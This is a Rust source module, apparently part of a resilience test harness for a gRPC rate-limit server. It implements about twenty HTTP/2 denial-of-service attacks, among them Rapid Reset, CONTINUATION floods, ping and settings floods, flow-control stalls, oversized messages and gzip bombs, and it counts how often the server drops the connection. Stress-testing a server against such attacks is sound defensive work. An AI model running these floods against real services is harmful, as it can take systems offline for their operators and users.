//! The attacks: each opens a connection, sends frames until the server closes it, and begins again.

use std::io::{self, ErrorKind, Write as _};
use std::net::{Ipv4Addr, SocketAddr};
use std::thread;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::frames::*;

/// An attack: its name, and the frames that one connection sends until the server ends it or `Instant` is reached.
pub struct Attack {
    pub name: &'static str,
    run: fn(&mut Attacker) -> io::Result<()>,
    /// SETTINGS of the connection.
    settings: fn() -> Vec<u8>,
}

/// Address of the attackers, which is not that of the probes.
const ATTACKERS: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// Streams that an attack opens on each connection.
const STREAMS: u32 = 4000;
/// Bytes of the largest message that is accepted by default.
const MAX_MESSAGE_BYTES: usize = 4 << 20;
const NO_SETTINGS: fn() -> Vec<u8> = Vec::new;
/// The largest flow-control window for all responses.
const LARGE_WINDOW: fn() -> Vec<u8> = || {
    let of_connection = frame(WINDOW_UPDATE, 0, 0, &(i32::MAX as u32 - 65_535).to_be_bytes());
    [settings(INITIAL_WINDOW_SIZE, i32::MAX as u32), of_connection].concat()
};

/// All attacks, in the order of the table.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "unasked-ping-acks", run: |it| it.flood(&frame(PING, ACK, 0, b"12345678")), settings: NO_SETTINGS },
    Attack { name: "pings", run: |it| it.flood(&frame(PING, 0, 0, b"12345678")), settings: NO_SETTINGS },
    Attack { name: "pings-unread", run: pings_unread, settings: NO_SETTINGS },
    Attack { name: "settings", run: |it| it.flood(&settings(INITIAL_WINDOW_SIZE, 65_535)), settings: NO_SETTINGS },
    Attack { name: "settings-on-streams", run: settings_on_streams, settings: NO_SETTINGS },
    Attack { name: "priority", run: |it| it.flood(&frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7])), settings: NO_SETTINGS },
    Attack { name: "window-updates", run: window_updates, settings: NO_SETTINGS },
    Attack { name: "unknown-frames", run: |it| it.flood(&frame(0xbe, 0, 0, b"")), settings: NO_SETTINGS },
    Attack { name: "empty-data", run: empty_data, settings: NO_SETTINGS },
    Attack { name: "rapid-reset", run: rapid_reset, settings: NO_SETTINGS },
    Attack { name: "continuation", run: continuation, settings: NO_SETTINGS },
    Attack { name: "connects", run: |_| Err(ErrorKind::ConnectionAborted.into()), settings: NO_SETTINGS },
    Attack { name: "zero-window", run: unread_answers, settings: || settings(INITIAL_WINDOW_SIZE, 0) },
    Attack { name: "unread-answers", run: unread_answers, settings: LARGE_WINDOW },
    Attack { name: "health-watch", run: |it| it.open_streams(WATCH, Some(b""), &[]), settings: NO_SETTINGS },
    Attack { name: "half-health-check", run: |it| it.open_streams(CHECK, None, &[]), settings: NO_SETTINGS },
    Attack { name: "half-calls", run: |it| it.open_streams(SHOULD_RATE_LIMIT, None, &[]), settings: NO_SETTINGS },
    Attack { name: "half-calls-long-headers", run: long_headers, settings: NO_SETTINGS },
    Attack { name: "endless-messages", run: endless_messages, settings: NO_SETTINGS },
    Attack { name: "large-messages", run: large_messages, settings: LARGE_WINDOW },
    Attack { name: "gzip-bombs", run: gzip_bombs, settings: LARGE_WINDOW },
];

/// Runs `connections` attackers for `duration`, and prints how often a connection was closed.
pub fn attack(attack: &'static Attack, address: SocketAddr, connections: usize, duration: Duration) {
    let until = Instant::now() + duration;
    let attackers: Vec<_> = (0..connections).map(|_| thread::spawn(move || repeat(attack, address, until))).collect();
    let closed: u64 = attackers.into_iter().map(|attacker| attacker.join().unwrap_or_default()).sum();
    println!("{closed}");
}

fn repeat(attack: &Attack, address: SocketAddr, until: Instant) -> u64 {
    let mut closed = 0;
    while Instant::now() < until {
        let ended = Connection::open(ATTACKERS, address, &(attack.settings)()).and_then(|connection| {
            let mut attacker = Attacker { connection, until };
            // The first SETTINGS of the server.
            attacker.connection.receive(Duration::from_secs(1))?;
            (attack.run)(&mut attacker)?;
            attacker.hold()
        });
        closed += u64::from(ended.is_err());
    }
    closed
}

/// One attacking connection.
struct Attacker {
    connection: Connection,
    until: Instant,
}

impl Attacker {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    /// Repeats a frame, 64 KiB in each write.
    fn flood(&mut self, frame: &[u8]) -> io::Result<()> {
        let batch = frame.repeat(65_536 / frame.len());
        while !self.is_over() {
            self.send(&batch)?;
        }
        Ok(())
    }

    /// Sends bytes and reads what has arrived meanwhile.
    fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.connection.send(bytes)?;
        while !self.connection.receive(Duration::ZERO)?.is_empty() {}
        Ok(())
    }

    /// Opens all streams of a connection; `message` ends each of them, without it they stay open.
    fn open_streams(&mut self, path: &str, message: Option<&[u8]>, more: &[(&str, &str)]) -> io::Result<()> {
        let block = header_block(path, more);
        let head_frames = |stream: u32| match block.len() {
            0..16_000 => frame(HEADERS, END_HEADERS, stream, &block),
            _ => {
                let (first, rest) = block.split_at(16_000);
                [frame(HEADERS, 0, stream, first), frame(CONTINUATION, END_HEADERS, stream, rest)].concat()
            }
        };
        for stream in (1..STREAMS * 2).step_by(2) {
            let data = match message {
                Some(message) => frame(DATA, END_STREAM, stream, &grpc_message(false, message)),
                None => frame(DATA, 0, stream, &[0, 0]),
            };
            self.send(&[head_frames(stream), data].concat())?;
            if self.is_over() {
                break;
            }
        }
        Ok(())
    }

    /// Sends DATA within the flow-control windows.
    fn send_data(&mut self, stream: u32, bytes: &[u8], ends: bool) -> io::Result<()> {
        let (mut sent, mut piece) = (0_i64, bytes);
        while !piece.is_empty() && !self.is_over() {
            let update = self.connection.stream_updates.get(&stream).copied().unwrap_or_default();
            let window = (self.connection.initial_window + update - sent).min(self.connection.window);
            let length = piece.len().min(16_384).min(usize::try_from(window).unwrap_or(0));
            if length == 0 {
                for received in self.connection.receive(Duration::from_millis(100))? {
                    if received.stream == stream && matches!(received.kind, HEADERS | RST_STREAM) {
                        return Ok(());
                    }
                }
                continue;
            }
            let (now, rest) = piece.split_at(length);
            let flags = if ends && rest.is_empty() { END_STREAM } else { 0 };
            self.send(&frame(DATA, flags, stream, now))?;
            sent += length as i64;
            self.connection.window -= length as i64;
            piece = rest;
        }
        Ok(())
    }

    /// Keeps the connection open.
    fn hold(&mut self) -> io::Result<()> {
        while !self.is_over() {
            self.connection.receive(Duration::from_millis(100))?;
        }
        Ok(())
    }
}

fn pings_unread(it: &mut Attacker) -> io::Result<()> {
    let batch = frame(PING, 0, 0, b"12345678").repeat(1000);
    while !it.is_over() {
        match it.connection.send(&batch) {
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                thread::sleep(Duration::from_millis(100));
            }
            result => result?,
        }
    }
    Ok(())
}

fn settings_on_streams(it: &mut Attacker) -> io::Result<()> {
    it.open_streams(SHOULD_RATE_LIMIT, None, &[])?;
    it.flood(&[settings(INITIAL_WINDOW_SIZE, 65_535), settings(INITIAL_WINDOW_SIZE, 65_536)].concat())
}

fn window_updates(it: &mut Attacker) -> io::Result<()> {
    it.flood(&frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
}

fn empty_data(it: &mut Attacker) -> io::Result<()> {
    it.send(&frame(HEADERS, END_HEADERS, 1, &header_block(SHOULD_RATE_LIMIT, &[])))?;
    it.flood(&frame(DATA, 0, 1, b""))
}

fn rapid_reset(it: &mut Attacker) -> io::Result<()> {
    let block = header_block(SHOULD_RATE_LIMIT, &[]);
    for first in (1..1_000_000_000).step_by(512) {
        let pair = |stream| {
            let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            [frame(HEADERS, END_HEADERS, stream, &block), reset].concat()
        };
        let batch: Vec<u8> = (first..first + 512).step_by(2).flat_map(pair).collect();
        it.send(&batch)?;
        if it.is_over() {
            break;
        }
    }
    Ok(())
}

fn continuation(it: &mut Attacker) -> io::Result<()> {
    it.send(&frame(HEADERS, 0, 1, &header_block(SHOULD_RATE_LIMIT, &[])))?;
    it.flood(&frame(CONTINUATION, 0, 1, b""))
}

/// Calls with long answers, none of which is read.
fn unread_answers(it: &mut Attacker) -> io::Result<()> {
    let block = header_block(SHOULD_RATE_LIMIT, &[]);
    let message = grpc_message(false, &rate_limit_request("shop", 1000, "x"));
    for stream in (1..STREAMS * 2).step_by(2) {
        let head = frame(HEADERS, END_HEADERS, stream, &block);
        while it.connection.window < message.len() as i64 && !it.is_over() {
            it.connection.receive(Duration::from_millis(100))?;
        }
        it.connection.window -= message.len() as i64;
        match it.connection.send(&[head, frame(DATA, END_STREAM, stream, &message)].concat()) {
            // The server does not read either.
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
            result => result?,
        }
        if it.is_over() {
            break;
        }
    }
    while !it.is_over() {
        thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

fn long_headers(it: &mut Attacker) -> io::Result<()> {
    it.open_streams(SHOULD_RATE_LIMIT, None, &[("x", &"x".repeat(15_000))])
}

fn endless_messages(it: &mut Attacker) -> io::Result<()> {
    let message = grpc_message(false, &vec![0; MAX_MESSAGE_BYTES - 5]);
    for stream in (1..STREAMS * 2).step_by(2) {
        it.send(&frame(HEADERS, END_HEADERS, stream, &header_block(SHOULD_RATE_LIMIT, &[])))?;
        it.send_data(stream, &message[..message.len() - 1], false)?;
        if it.is_over() {
            break;
        }
    }
    Ok(())
}

fn large_messages(it: &mut Attacker) -> io::Result<()> {
    // Two bytes for each empty descriptor: the most that can be decoded.
    let message = grpc_message(false, &b"\x12\x00".repeat(MAX_MESSAGE_BYTES / 2 - 8));
    for stream in (1..i32::MAX as u32).step_by(2) {
        it.send(&frame(HEADERS, END_HEADERS, stream, &header_block(SHOULD_RATE_LIMIT, &[])))?;
        it.send_data(stream, &message, true)?;
        if it.is_over() {
            break;
        }
    }
    Ok(())
}

fn gzip_bombs(it: &mut Attacker) -> io::Result<()> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&rate_limit_request("shop", 1, &"x".repeat(MAX_MESSAGE_BYTES - 100)))?;
    let message = grpc_message(true, &encoder.finish()?);
    let block = header_block(SHOULD_RATE_LIMIT, &[("grpc-encoding", "gzip")]);
    let call =
        |stream| [frame(HEADERS, END_HEADERS, stream, &block), frame(DATA, END_STREAM, stream, &message)].concat();
    for first in (1..i32::MAX as u32).step_by(256) {
        let batch: Vec<u8> = (first..first + 256).step_by(2).flat_map(call).collect();
        while it.connection.window < batch.len() as i64 && !it.is_over() {
            it.connection.receive(Duration::from_millis(100))?;
        }
        it.connection.window -= batch.len() as i64;
        it.send(&batch)?;
        if it.is_over() {
            break;
        }
    }
    Ok(())
}
